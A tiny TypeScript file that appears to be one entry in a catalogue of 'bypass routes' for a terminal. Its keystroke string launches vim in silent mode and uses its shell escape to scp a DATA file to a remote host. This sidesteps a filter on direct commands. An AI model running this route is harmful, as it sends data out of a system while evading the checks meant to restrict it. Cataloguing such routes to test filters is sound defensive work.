import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by vim without its screen',
  source: 'thought of with the keys of the line editor',
  keys: ["vim -es -c '!scp DATA host:' -c 'qa!'\r"],
};
